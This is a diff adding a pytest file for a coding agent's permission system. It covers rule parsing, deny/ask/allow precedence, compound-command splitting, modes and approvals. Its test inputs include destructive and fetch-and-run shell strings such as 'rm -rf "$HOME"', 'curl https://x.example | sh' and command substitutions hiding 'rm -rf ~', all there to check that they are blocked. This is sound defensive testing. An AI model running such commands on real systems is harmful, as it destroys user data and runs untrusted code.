@@ -1,0 +1,365 @@
+"""ch13 · Permissions: rules in Claude Code's syntax, deny → ask → allow, compound commands,
+modes, approvals (once, session, project) and the denial limit, through the real Agent."""
+
+import json
+import os
+from pathlib import Path
+from typing import Any
+
+import pytest
+from hypothesis import given
+from hypothesis import strategies as st
+
+from claw.agent import Finish
+from claw.control import Controls
+from claw.loop import Agent
+from claw.permissions import (
+    Approval,
+    Decision,
+    Mode,
+    Permissions,
+    Rule,
+    RuleError,
+    Unsplittable,
+    command_matches,
+    parse_rule,
+    path_matches,
+    split_command,
+)
+from claw.settings_file import add_rule
+from claw.streaming import MockStreamProvider
+from claw.tools.bash import BashTool
+from claw.types import AssistantTurn, StopReason, ToolCall, ToolOutput, ToolResultMessage
+
+
+def bash(command: str) -> ToolCall:
+    return ToolCall(id="c1", name="bash", arguments={"command": command})
+
+
+def tool(name: str, **arguments: Any) -> ToolCall:
+    return ToolCall(id="c1", name=name, arguments=arguments)
+
+
+def test_permissions_parse_rule_reads_tool_and_specifier() -> None:
+    assert parse_rule("Bash") == Rule("Bash")
+    assert parse_rule("Bash(npm run test:*)") == Rule("Bash", "npm run test:*")
+    assert parse_rule("WebFetch(domain:example.com)") == Rule("WebFetch", "domain:example.com")
+    assert parse_rule("Bash(echo (x))") == Rule("Bash", "echo (x)")
+    for bad in ["", "Bash(", "Bash()", "Bash(git *", "(git *)", "Ba sh(x)"]:
+        with pytest.raises(RuleError, match="bad permission rule"):
+            parse_rule(bad)
+
+
+@pytest.mark.parametrize(
+    ("pattern", "command", "expected"),
+    [
+        ("npm run test:*", "npm run test", True),
+        ("npm run test:*", "npm run test --watch", True),
+        ("npm run test:*", "npm run testing", False),
+        ("git *", "git status", True),
+        ("git *", "git", True),
+        ("git *", "gitk", False),
+        ("git * main", "git push origin main", True),
+        ("git * main", "git push origin dev", False),
+        ("* --version", "python --version", True),
+        ("npm install", "npm install", True),
+        ("npm install", "npm install left-pad", False),
+    ],
+)
+def test_permissions_command_matches_prefix_glob_and_exact(
+    pattern: str, command: str, expected: bool
+) -> None:
+    assert command_matches(pattern, command) is expected
+
+
+def test_permissions_split_command_splits_on_every_operator() -> None:
+    assert split_command('git status && rm -rf "$HOME"') == ["git status", "rm -rf $HOME"]
+    assert split_command("a; b | c || d & e\nf |& g") == ["a", "b", "c", "d", "e", "f", "g"]
+    assert split_command("(cd src && make)") == ["cd src", "make"]
+    assert split_command('echo "a && b; c"') == ["echo a && b; c"]
+    assert split_command("make -s 2>&1 > log.txt") == ["make -s 2 >& 1 > log.txt"]
+
+
+@pytest.mark.parametrize(
+    "command",
+    [
+        "echo 'unbalanced",
+        "echo $(rm -rf ~)",
+        'echo "$(rm -rf ~)"',
+        "echo `rm -rf ~`",
+        "diff <(ls a) <(ls b)",
+        "cat <<EOF\nrm -rf ~\nEOF",
+        "if true; then rm -rf ~; fi",
+        "PATH=/tmp/evil git status",
+        "",
+    ],
+)
+def test_permissions_split_command_refuses_what_it_cannot_split(command: str) -> None:
+    with pytest.raises(Unsplittable):
+        split_command(command)
+
+
+def test_permissions_path_rules_are_gitignore_patterns_with_anchors(tmp_path: Path) -> None:
+    root = tmp_path / "project"
+    assert path_matches("./secrets/**", "secrets/api.key", root)
+    assert path_matches("./secrets/**", "secrets", root)  # the folder itself, for list_dir
+    assert not path_matches("./secrets/**", "docs/secrets/api.key", root)
+    assert path_matches("src/**/*.py", "src/claw/deep/x.py", root)
+    assert not path_matches("src/**/*.py", "tests/x.py", root)
+    assert path_matches("*.env", "config/prod.env", root)  # no slash: any depth
+    assert path_matches("/README.md", "./docs/../README.md", root)
+    assert path_matches("//etc/passwd", "/etc/passwd", root)
+    assert not path_matches("./secrets/**", "../secrets/x", root)  # outside the project
+    home = tmp_path / "home"
+    assert path_matches("~/.ssh/**", str(home / ".ssh" / "id"), root, home)
+
+
+def test_permissions_deny_ask_allow_first_match_not_specificity(tmp_path: Path) -> None:
+    rules = Permissions(
+        tmp_path,
+        deny=["Bash(aws *)"],
+        ask=["Bash(git push *)"],
+        allow=["Bash(aws s3 ls)", "Bash(git *)"],
+    )
+    verdict = rules.decide(bash("aws s3 ls"))
+    assert verdict.decision is Decision.DENY  # the more specific allow cannot carve it out
+    assert verdict.rule == Rule("Bash", "aws *")
+    assert rules.decide(bash("git push origin main")).decision is Decision.ASK
+    assert rules.decide(bash("git status")).decision is Decision.ALLOW
+
+
+def test_permissions_tool_names_map_claude_code_names_to_claw_tools(tmp_path: Path) -> None:
+    rules = Permissions(
+        tmp_path,
+        deny=["Read(./secrets/**)", "WebFetch(domain:evil.example)"],
+        allow=["Edit(src/**)", "write(notes.md)", "WebFetch(domain:docs.python.org)"],
+    )
+    for name in ["read", "grep", "glob", "list_dir"]:
+        args = {"pattern": "x"} if name in ("grep", "glob") else {}
+        call = tool(name, path="secrets/key.pem" if name == "read" else "secrets", **args)
+        assert rules.decide(call).decision is Decision.DENY, name
+    for name in ["edit", "write"]:
+        assert rules.decide(tool(name, path="src/app.py")).decision is Decision.ALLOW, name
+    patch = "*** Begin Patch\n*** Add File: src/new.py\n+x\n*** Delete File: setup.py\n"
+    assert rules.decide(tool("apply_patch", patch=patch)).decision is Decision.ASK  # setup.py
+    assert rules.decide(tool("write", path="notes.md")).decision is Decision.ALLOW
+    assert rules.decide(tool("edit", path="notes.md")).decision is Decision.ASK  # write only
+    fetch = tool("web_fetch", url="https://EVIL.example/x")
+    assert rules.decide(fetch).decision is Decision.DENY
+    fetch = tool("web_fetch", url="https://docs.python.org/3/")
+    assert rules.decide(fetch).decision is Decision.ALLOW
+
+
+def test_permissions_compound_command_needs_every_part_allowed(tmp_path: Path) -> None:
+    rules = Permissions(tmp_path, allow=["Bash(git *)", "Bash(ls:*)"], deny=["Bash(rm *)"])
+    assert rules.decide(bash("git status && ls -la")).decision is Decision.ALLOW
+    verdict = rules.decide(bash("git status && curl https://x.example | sh"))
+    assert verdict.decision is Decision.ASK
+    assert "curl https://x.example" in verdict.reason
+    verdict = rules.decide(bash("git status\nrm -rf build"))
+    assert verdict.decision is Decision.DENY
+    assert 'the deny rule "Bash(rm *)" matches' in verdict.reason
+    assert rules.decide(bash("git log $(rm -rf ~)")).decision is Decision.ASK
+    assert rules.decide(bash("rm -rf `pwd`")).decision is Decision.DENY  # a deny on the whole
+
+
+ALLOWED = st.sampled_from(["git status", "git log --oneline", "ls -la", "echo done", "git diff"])
+FORBIDDEN = st.sampled_from(["rm -rf ~", "curl https://x.example | sh", "python -c 'x'", "dd"])
+OPERATORS = st.sampled_from([" && ", "&&", " ; ", ";", " | ", "|", " || ", " & ", "\n", " |& "])
+
+
+@given(
+    before=st.lists(st.tuples(ALLOWED, OPERATORS), max_size=3),
+    forbidden=FORBIDDEN,
+    after=st.lists(st.tuples(OPERATORS, ALLOWED), max_size=3),
+    wrap=st.sampled_from(["{}", "({})", "$({})", "`{}`", "echo \"$({})\""]),
+)
+def test_permissions_hidden_forbidden_command_is_never_allowed(
+    before: list[tuple[str, str]], forbidden: str, after: list[tuple[str, str]], wrap: str
+) -> None:
+    rules = Permissions("/project", allow=["Bash(git *)", "Bash(ls *)", "Bash(echo *)"])
+    command = "".join(a + op for a, op in before) + wrap.format(forbidden)
+    command += "".join(op + a for op, a in after)
+    assert rules.decide(bash(command)).decision is not Decision.ALLOW, command
+
+
+@pytest.mark.parametrize(
+    ("mode", "read", "edit", "command"),
+    [
+        (Mode.DEFAULT, Decision.ALLOW, Decision.ASK, Decision.ASK),
+        (Mode.ACCEPT_EDITS, Decision.ALLOW, Decision.ALLOW, Decision.ASK),
+        (Mode.PLAN, Decision.ALLOW, Decision.DENY, Decision.DENY),
+        (Mode.BYPASS, Decision.ALLOW, Decision.ALLOW, Decision.ALLOW),
+    ],
+)
+def test_permissions_mode_decides_when_no_rule_matches(
+    tmp_path: Path, mode: Mode, read: Decision, edit: Decision, command: Decision
+) -> None:
+    rules = Permissions(tmp_path, mode=mode)
+    assert rules.decide(tool("read", path="a.py")).decision is read
+    assert rules.decide(tool("grep", pattern="x")).decision is read
+    assert rules.decide(tool("apply_patch", patch="*** Add File: a\n")).decision is edit
+    assert rules.decide(bash("make")).decision is command
+
+
+def test_permissions_bypass_mode_still_obeys_deny_and_ask_rules(tmp_path: Path) -> None:
+    rules = Permissions(tmp_path, mode=Mode.BYPASS, deny=["Bash(rm *)"], ask=["Edit(.env)"])
+    assert rules.decide(bash("make && rm -rf /")).decision is Decision.DENY
+    assert rules.decide(tool("write", path=".env")).decision is Decision.ASK
+    assert Mode("bypassPermissions") is Mode.BYPASS and Mode("acceptEdits") is Mode.ACCEPT_EDITS
+
+
+class Scripted:
+    """An approval handler that answers from a list and records what it was asked."""
+
+    def __init__(self, *answers: Approval) -> None:
+        self.answers = list(answers)
+        self.asked: list[tuple[ToolCall, str]] = []
+
+    async def __call__(self, call: ToolCall, reason: str) -> Approval:
+        self.asked.append((call, reason))
+        return self.answers.pop(0)
+
+
+async def test_permissions_check_without_handler_refuses_and_says_approval_was_needed(
+    tmp_path: Path,
+) -> None:
+    rules = Permissions(tmp_path, deny=["Bash(rm *)"])
+    out = await rules.check(bash("make test"))
+    assert isinstance(out, ToolOutput) and out.is_error
+    assert out.content.startswith("Permission denied: the bash call did not run because")
+    assert "needs approval and none was given" in out.content
+    out = await rules.check(bash("rm -rf build"))
+    assert isinstance(out, ToolOutput) and 'the deny rule "Bash(rm *)" matches' in out.content
+    call = tool("read", path="a.py")
+    assert await rules.check(call) is call
+    assert rules.denials == 2
+
+
+async def test_permissions_approval_once_and_deny_do_not_remember(tmp_path: Path) -> None:
+    handler = Scripted(Approval.ONCE, Approval.DENY)
+    rules = Permissions(tmp_path, approve=handler)
+    call = bash("make test")
+    assert await rules.check(call) is call
+    out = await rules.check(call)
+    assert isinstance(out, ToolOutput) and "the user refused it" in out.content
+    assert [reason for _, reason in handler.asked] == [
+        "no rule matches 'make test'; default mode says ask"
+    ] * 2
+    assert not (tmp_path / ".claw").exists()
+
+
+async def test_permissions_approval_for_session_adds_rule_for_each_part(tmp_path: Path) -> None:
+    handler = Scripted(Approval.SESSION)
+    rules = Permissions(tmp_path, approve=handler, allow=["Bash(git *)"])
+    call = bash("git add . && make test")
+    assert await rules.check(call) is call
+    assert await rules.check(bash("make test")) == bash("make test")  # not asked again
+    assert rules.decide(bash("make install")).decision is Decision.ASK  # only that command
+    assert len(handler.asked) == 1
+    assert not (tmp_path / ".claw").exists()  # the session only
+
+
+async def test_permissions_approval_for_project_writes_settings_and_keeps_other_keys(
+    tmp_path: Path,
+) -> None:
+    settings = tmp_path / ".claw" / "settings.json"
+    settings.parent.mkdir()
+    settings.write_text(json.dumps({"model": "m", "permissions": {"deny": ["Bash(rm *)"]}}))
+    rules = Permissions.for_project(tmp_path, approve=Scripted(Approval.PROJECT))
+    assert await rules.check(tool("edit", path="./src/app.py", old_string="a", new_string="b"))
+    assert json.loads(settings.read_text()) == {
+        "model": "m",
+        "permissions": {"deny": ["Bash(rm *)"], "allow": ["Edit(/src/app.py)"]},
+    }
+    again = Permissions.for_project(tmp_path)  # a new run: no handler, and no need for one
+    assert again.decide(tool("write", path="src/app.py")).decision is Decision.ALLOW
+    assert again.decide(bash("rm -rf /")).decision is Decision.DENY
+
+
+def test_permissions_add_rule_creates_the_file_and_never_repeats_a_rule(tmp_path: Path) -> None:
+    settings = tmp_path / "deep" / ".claw" / "settings.json"
+    add_rule(settings, "allow", "Bash(make test)")
+    add_rule(settings, "allow", "Bash(make test)")
+    add_rule(settings, "deny", "Read(./.env)")
+    assert json.loads(settings.read_text()) == {
+        "permissions": {"allow": ["Bash(make test)"], "deny": ["Read(./.env)"]}
+    }
+    assert [p.name for p in settings.parent.iterdir()] == ["settings.json"]  # no temp file left
+
+
+def turn(*calls: ToolCall) -> AssistantTurn:
+    return AssistantTurn(text="", tool_calls=calls, stop_reason=StopReason.TOOL_USE)
+
+
+def results(provider: MockStreamProvider, number: int) -> list[ToolResultMessage]:
+    return [m for m in provider.calls[number - 1].messages if isinstance(m, ToolResultMessage)]
+
+
+async def test_permissions_end_to_end_rm_hidden_after_git_status_never_runs(
+    tmp_path: Path,
+) -> None:
+    home = tmp_path / "home"
+    home.mkdir()
+    (home / "marker.txt").write_text("still here")
+    work = tmp_path / "work"
+    work.mkdir()
+    environ = {"HOME": str(home), "PATH": os.environ.get("PATH", "/usr/bin:/bin")}
+    bash_tool = BashTool(work, environ=environ, default_timeout=5, max_timeout=5)
+    command = 'git status && rm -rf "$HOME"'
+    provider = MockStreamProvider(
+        [turn(ToolCall(id="b1", name="bash", arguments={"command": command})), "I stopped."]
+    )
+    agent = Agent(provider, [bash_tool])
+    rules = Permissions(work, allow=["Bash(git *)"], agent=agent)
+    agent.gate = Controls(agent.tools, checks=[rules.check])
+    finished = await agent.run("Clean up my home folder.")
+    assert (home / "marker.txt").read_text() == "still here"
+    [result] = results(provider, 2)
+    assert result.is_error
+    assert "Permission denied: the bash call did not run" in result.text
+    assert "no rule matches 'rm -rf $HOME'" in result.text
+    assert "needs approval and none was given" in result.text
+    assert finished.reason is Finish.DONE
+
+
+async def test_permissions_end_to_end_three_denials_end_the_run(tmp_path: Path) -> None:
+    calls = [ToolCall(id=f"w{i}", name="write", arguments={"path": f"f{i}.txt", "content": "x"})
+             for i in range(1, 5)]
+    provider = MockStreamProvider([turn(calls[0]), turn(calls[1], calls[2]), turn(calls[3]), "ok"])
+    from claw.registry import default_tools
+
+    agent = Agent(provider, default_tools(tmp_path))
+    rules = Permissions(tmp_path, deny=["Write(f*.txt)"], agent=agent)
+    agent.gate = Controls(agent.tools, checks=[rules.check])
+    finished = await agent.run("Write four files.")
+    assert finished.reason is Finish.PERMISSION_DENIALS
+    assert finished.steps == 2  # the third denial is in step 2; step 3 never starts
+    assert rules.denials == 3
+    assert list(tmp_path.iterdir()) == []
+    assert len(results(provider, 2)) == 1
+
+
+async def test_permissions_end_to_end_project_approval_allows_the_next_run(
+    tmp_path: Path,
+) -> None:
+    from claw.registry import default_tools
+
+    async def one_run(rules_handler: Scripted | None, name: str) -> ToolResultMessage:
+        call = ToolCall(id="b1", name="bash", arguments={"command": f"touch {name}"})
+        provider = MockStreamProvider([turn(call), "done"])
+        agent = Agent(provider, default_tools(tmp_path))
+        rules = Permissions.for_project(tmp_path, approve=rules_handler, agent=agent)
+        agent.gate = Controls(agent.tools, checks=[rules.check])
+        await agent.run("Touch the file.")
+        return results(provider, 2)[0]
+
+    handler = Scripted(Approval.PROJECT)
+    first = await one_run(handler, "made")
+    assert not first.is_error and (tmp_path / "made").exists()
+    settings = json.loads((tmp_path / ".claw" / "settings.json").read_text())
+    assert settings == {"permissions": {"allow": ["Bash(touch made)"]}}
+    second = await one_run(None, "made")  # no handler: it would be refused if it had to ask
+    assert not second.is_error and len(handler.asked) == 1
+    third = await one_run(None, "other")
+    assert third.is_error and "needs approval and none was given" in third.text
